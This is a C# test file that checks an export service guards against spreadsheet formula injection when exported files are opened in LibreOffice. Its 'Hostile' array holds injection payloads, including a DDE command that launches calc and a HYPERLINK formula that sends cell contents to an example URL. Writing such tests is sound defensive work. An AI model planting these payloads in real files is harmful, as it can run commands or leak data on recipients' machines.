using System.Text.Json;
using ContactCenter.Insights.V1;

namespace ContactCenter.InsightsEnrichment.Tests.Exports;

/// <summary>What LibreOffice makes of an exported file.</summary>
public sealed class SpreadsheetTests(TestServers servers) : ExportTest(servers)
{
    /// <summary>What senders may write into an attribute.</summary>
    private static readonly string[] Hostile =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.com/?\"&A1)", "+1+1", "-1+1", "-1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    ];

    /// <summary>What a spreadsheet likes to read as something else.</summary>
    private static readonly string[] Delicate =
    [
        "00123", "12345678901234567890", "1.10", "1e5", "1-2", "3/4", "2026-03-02", "10:30", "TRUE", "5 %", "$5", "0x1F", "#N/A", "'quoted", " =1+1", "two  spaces ",
        "a \"b\", c; d", "two\r\nlines", "Grüße, Ærø, 東京 😀", "\u200F=1+1\u200E", "\u202Eright to left\u202C", "＝1+1",
    ];

    [Fact]
    [Rule("INS-131"), Rule("INS-132")]
    public async Task Nothing_is_worked_out_and_nothing_is_lost_when_a_file_is_opened_in_LibreOffice()
    {
        Assert.SkipUnless(Spreadsheet.IsInstalled, "LibreOffice is not installed (290 MB): apt-get install --no-install-recommends libreoffice-calc");
        string[] values = [.. Hostile, .. Delicate];
        for (var number = 1; number <= values.Length; number++)
            await SendAsync(Contact(number, values[number - 1]).Forms);
        await LoadAsync();
        var segments = await ContentAsync(await ExportAsync(new()
        {
            DataSet = DataSet.Conversations,
            Filter = Day(("kind", "Conversation")),
            Columns = { "task_sid", "start_time", "talk_time", "conversation_measure_1", "external_contact", "content", "source" },
        }));
        var customers = await ContentAsync(await ExportAsync(new()
        {
            DataSet = DataSet.Customers,
            Filter = Day(),
            Columns = { "name", "phone", "zip", "conversation_count" },
        }));

        var plain = await Spreadsheet.OpenAsync(Spreadsheet.Plainly, segments, customers);
        var opened = await Spreadsheet.OpenAsync(Spreadsheet.QuotedAsText, segments, customers);
        Assert.Equal(values.Length + 1, plain[0].Count);
        Assert.DoesNotContain(plain.Concat(opened).SelectMany(file => file).SelectMany(row => row), cell => cell.IsFormula);
        Assert.Equal(
            values.Select((value, i) => string.Join('|',
                $"string:{TaskLife.Sid("WT", i + 1)}", $"string:2026-03-02T{9 + i / 60:D2}:{i % 60:D2}:05.250+00:00", "float:20", $"float:-{i + 1}.5", "string:+18001234567",
                $"string:{Shown(value)}", "")),
            opened[0].Skip(1).Select(row => string.Join('|', row.Select(cell => cell.Type.Length == 0 ? "" : $"{cell.Type}:{cell.Text}"))));
        Assert.Equal(
            values.Select((value, i) => $"string:{Shown(value)}|string:+1555123{i:D4}|string:00{i:D3}|float:1").Order(StringComparer.Ordinal),
            opened[1].Skip(1).Select(row => string.Join('|', row.Select(cell => $"{cell.Type}:{cell.Text}"))).Order(StringComparer.Ordinal));
    }

    /// <summary>A value as a reader sees it: guarded where it looks like a formula.</summary>
    private static string Shown(string value) => (Hostile.Contains(value) ? $"'{value}" : value).ReplaceLineEndings("\n");

    private static TaskLife Contact(int number, string value)
    {
        var minute = $"{8 + (number + 59) / 60:D2}:{(number - 1) % 60:D2}";
        return new TaskLife(number)
        {
            Attributes = JsonSerializer.Serialize(new
            {
                direction = "inbound",
                to = "+18001234567",
                conversations = new { content = value, conversation_measure_1 = -number - 0.5 },
                customers = new { name = value, phone = $"+1555123{number - 1:D4}", zip = $"00{number - 1:D3}" },
            }),
        }
        .Entered($"{minute}:00", "Level 1").Offered($"{minute}:02", number, "John Doe", "Level 1").Reserved("accepted", $"{minute}:05.250", number, "John Doe", "Level 1")
        .Reserved("completed", $"{minute}:25.250", number, "John Doe", "Level 1").Completed($"{minute}:25.250", "done");
    }
}
